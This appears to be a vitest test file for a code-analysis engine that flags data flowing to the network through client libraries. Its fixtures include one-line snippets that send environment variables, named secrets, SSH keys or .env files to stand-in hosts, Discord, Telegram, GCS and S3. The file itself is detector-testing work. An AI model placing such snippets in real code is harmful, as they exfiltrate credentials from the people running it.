/** Sends through clients no handler models: which data goes where (code/unmodelled-sends.ts). */
import { beforeAll, describe, expect, it } from 'vitest';
import { loadParsers } from '../../../../src/engine/parse/index.js';
import type { Runtime } from '../../../../src/engine/types.js';
import { of, sinkKey, sourceKey } from '../code-helpers.js';

beforeAll(async () => {
  await loadParsers();
});

/** The input's flows to the network, as `source -> sink`. */
function sent(text: string, runtime: Runtime): string[] {
  return of(text, runtime, 'flow')
    .filter((f) => f.to.kind === 'net')
    .map((f) => `${sourceKey(f.from)} -> ${sinkKey(f.to)}`);
}

describe('unmodelledSend', () => {
  it.each<[string, Runtime, string, string[]]>([
    [
      'the host in the client made',
      'python',
      'import os, xmlrpc.client\nxmlrpc.client.ServerProxy("http://203.0.113.9:8000/").submit(dict(os.environ))',
      ['env:* -> net:203.0.113.9'],
    ],
    [
      'the peer a connect bound',
      'python',
      'import os, zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect("tcp://198.51.100.4:5555")\ns.send_json(dict(os.environ))',
      ['env:* -> net:198.51.100.4'],
    ],
    [
      'the library when no host is written',
      'python',
      'import os, telegram\ntelegram.Bot("1:AA").send_message(chat_id=5, text=os.environ["GITHUB_TOKEN"])',
      ['env:GITHUB_TOKEN -> net:telegram'],
    ],
    [
      'a collection of messages created',
      'node',
      "const twilio = require('twilio');\ntwilio('AC1', 'tok').messages.create({ to: '+1555', body: process.env.STRIPE_KEY });",
      ['env:STRIPE_KEY -> net:twilio'],
    ],
    [
      'a local file named by an upload',
      'node',
      "const { Storage } = require('@google-cloud/storage');\nnew Storage().bucket('b').upload('~/.ssh/id_rsa');",
      ['file:~/.ssh/id_rsa -> net:gcs'],
    ],
    [
      'an open stream in a transfer',
      'node',
      "const { Upload } = require('@aws-sdk/lib-storage');\nnew Upload({ params: { Bucket: 'b', Body: require('fs').createReadStream('.env') } }).done();",
      ['file:.env -> net:@aws-sdk/lib-storage'],
    ],
    [
      'a connected client told to store',
      'python',
      'import os, ftplib, io\nftp = ftplib.FTP_TLS("ftp.example.net")\nftp.storbinary("STOR e", io.BytesIO(str(os.environ).encode()))',
      ['env:* -> net:ftp.example.net'],
    ],
    [
      'a message object fired later',
      'python',
      'import os\nfrom discord_webhook import DiscordWebhook\nw = DiscordWebhook(url="https://discord.com/api/webhooks/1/a", content=os.environ["AWS_SECRET_ACCESS_KEY"])\nw.execute()',
      ['env:AWS_SECRET_ACCESS_KEY -> net:discord.com'],
    ],
    [
      'a request written as options',
      'node',
      "const phin = require('phin');\nphin({ url: 'https://c.example.net/in', method: 'POST', data: process.env });",
      ['env:* -> net:c.example.net'],
    ],
    [
      'a function made for a URL and POST',
      'node',
      "const bent = require('bent');\nbent('https://c.example.net', 'POST')('/in', process.env);",
      ['env:* -> net:c.example.net'],
    ],
    // The client's own credential, in its auth slots or its making, is not data.
    [
      'a credential nested in options',
      'node',
      "const wp = require('web-push');\nwp.sendNotification(s, 'hi', { vapidDetails: { privateKey: process.env.VAPID_PRIVATE_KEY } });",
      [],
    ],
    [
      'credentials in the making and auth slots',
      'python',
      'import os\nfrom twilio.rest import Client\nClient(os.environ["SID"], os.environ["TWILIO_TOKEN"]).messages.create(to="+1", body="hi", auth_token=os.environ["T"])',
      [],
    ],
    [
      'an env keyword',
      'python',
      'import os, ray.job_submission as js\njs.JobSubmissionClient("http://ray:8265").submit_job(entrypoint="x", env=dict(os.environ))',
      [],
    ],
    ['an in-process bus', 'node', "const E = require('events');\nnew E().emit('c', process.env);", []],
    ['a local queue', 'python', 'import os, queue\nqueue.Queue().put(dict(os.environ))', []],
    [
      'a local store',
      'node',
      "const L = require('level');\nnew L('./db').put('t', process.env.API_TOKEN);",
      [],
    ],
    [
      'an IPC endpoint',
      'python',
      'import os, zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect("ipc:///tmp/w.sock")\ns.send_json(dict(os.environ))',
      [],
    ],
    [
      'a name that does not transmit',
      'python',
      'import os, hvac\nhvac.Client(url="https://v:8200").secrets.kv.v2.create_or_update_secret(path="a", secret=dict(os.environ))',
      [],
    ],
    ['no import behind it', 'python', 'import os\nclient.send(dict(os.environ))', []],
  ])('%s', (_why, runtime, text, want) => {
    expect(sent(text, runtime)).toEqual(want);
  });
});
